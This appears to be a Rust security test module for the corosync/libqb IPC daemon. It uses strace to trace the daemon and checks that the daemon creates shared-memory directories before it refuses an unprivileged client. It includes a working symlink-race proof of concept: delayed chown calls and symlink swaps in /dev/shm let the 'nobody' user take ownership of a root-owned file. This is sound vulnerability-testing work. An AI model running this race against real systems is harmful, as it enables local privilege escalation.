//! What the daemon does while somebody connects, in the words of strace.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::os::unix::fs::{MetadataExt as _, symlink};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use quorate_ipc::Service;
use quorate_proto::cmap;
use quorate_testkit::Process;

use super::{Case, Kept, LARGE, VICTIM, connect, stream};
use crate::raw::shake_hands;

pub(super) const CASES: [Case; 2] = [
    (
        "1_all_is_made_before_the_refusal",
        refused,
        |_, attacker| {
            let steps = ["memory", "directory", "given away", "answer", "removed"];
            assert_eq!(attacker.said[0], "answered -13");
            assert_eq!(attacker.said[1..], steps);
        },
    ),
    ("7_rights_are_given_by_path", links, |_, attacker| {
        assert_eq!(attacker.said, ["root's", "nobody's"]);
    }),
];

/// Nobody, whom corosync does not know.
const NOBODY: u32 = 65534;
const TRACE: &str = "/run/trace";

/// Traces the daemon's system calls from here on.
fn trace(options: &[&str]) -> Process {
    let is_corosync =
        |path: &Path| fs::read_to_string(path.join("comm")).is_ok_and(|name| name == "corosync\n");
    let mut processes = fs::read_dir("/proc").expect("processes").flatten();
    let daemon = processes
        .find(|entry| is_corosync(&entry.path()))
        .expect("the daemon runs");
    let mut command = Command::new("strace");
    command.args(["-f", "-o", TRACE]).args(options);
    command.arg("-p").arg(daemon.file_name());
    let strace = command
        .stderr(Stdio::piped())
        .spawn()
        .expect("strace starts");
    let mut strace = Process::new(strace);
    let mut said = BufReader::new(strace.stderr.take().expect("it is piped")).lines();
    let attached = said.find(|line| line.as_ref().is_ok_and(|line| line.contains("attached")));
    attached.expect("it is attached").expect("text");
    // Somebody has to read what it says.
    std::thread::spawn(move || said.count());
    strace
}

/// Has nobody do one of the following.
fn as_nobody(role: &str) -> Process {
    let program = std::env::current_exe().expect("a running program has a path");
    let mut command = Command::new(program);
    command.args([super::ATTACK, role]).uid(NOBODY).gid(NOBODY);
    Process::new(command.spawn().expect("nobody may run this"))
}

/// What nobody does.
pub(super) const ROLES: [(&str, fn()); 2] = [("ask", ask), ("ask and replace", ask_and_replace)];

fn refused() -> Kept {
    let strace = trace(&["-e", "trace=mmap,mkdir,chown,sendto,rmdir"]);
    as_nobody("ask").wait().expect("it ends");
    let steps = [
        (format!("mmap(NULL, {}", LARGE >> 20 << 20), "memory"),
        ("mkdir(\"/dev/shm/qb-".into(), "directory"),
        ("chown(\"/dev/shm/qb-".into(), "given away"),
        (", 12328, MSG_NOSIGNAL".into(), "answer"),
        ("rmdir(\"/dev/shm/qb-".into(), "removed"),
    ];
    let trace = until(|| {
        let trace = fs::read_to_string(TRACE).expect("a trace");
        trace.contains("rmdir(").then_some(trace)
    });
    drop(strace);
    for line in trace.lines() {
        // A length is rounded up to pages.
        let line = line.replace(&(LARGE + 4096).to_string(), &LARGE.to_string());
        if let Some((_, step)) = steps.iter().find(|(text, _)| line.contains(text)) {
            println!("{step}");
        }
    }
    Box::new(())
}

fn ask() {
    let response = shake_hands(&mut stream(Service::VoteQuorum), LARGE);
    println!("answered {}", response.expect("an answer").header.error);
}

fn owner() -> &'static str {
    match fs::metadata(VICTIM).expect("it is there").uid() {
        NOBODY => "nobody's",
        0 => "root's",
        _ => "another's",
    }
}

/// Between the change of the directory's owner and that of the files' there is a moment, which is
/// made longer.
fn links() -> Kept {
    fs::write(VICTIM, b"precious").expect("a file");
    let mut client = connect(Service::Cmap);
    client
        .ask(&cmap::Set::message(b"uidgid.uid.65534", 2, &[1]))
        .expect("an answer");
    let _strace = trace(&["-e", "trace=chown", "-e", "inject=chown:delay_enter=20000"]);
    println!("{}", owner());
    as_nobody("ask and replace").wait().expect("it ends");
    println!("{}", owner());
    Box::new(client)
}

fn ask_and_replace() {
    let stop = Arc::new(AtomicBool::new(false));
    let watcher = std::thread::spawn({
        let stop = Arc::clone(&stop);
        move || {
            while !stop.load(Ordering::Relaxed) {
                replace_all();
            }
        }
    });
    until(|| {
        shake_hands(&mut stream(Service::VoteQuorum), 8192);
        (owner() == "nobody's").then_some(())
    });
    stop.store(true, Ordering::Relaxed);
    watcher.join().expect("it ends");
}

fn until<T>(mut done: impl FnMut() -> Option<T>) -> T {
    let start = Instant::now();
    loop {
        if let Some(value) = done() {
            return value;
        }
        assert!(start.elapsed() < Duration::from_secs(60), "in vain");
        std::thread::sleep(Duration::from_millis(1));
    }
}

/// Puts links in the place of the files that are there.
fn replace_all() {
    let directories = fs::read_dir("/dev/shm").expect("a directory").flatten();
    let files = directories.filter_map(|entry| fs::read_dir(entry.path()).ok());
    for file in files.flatten().flatten() {
        if fs::remove_file(file.path()).is_ok() {
            let _ = symlink(VICTIM, file.path());
        }
    }
}
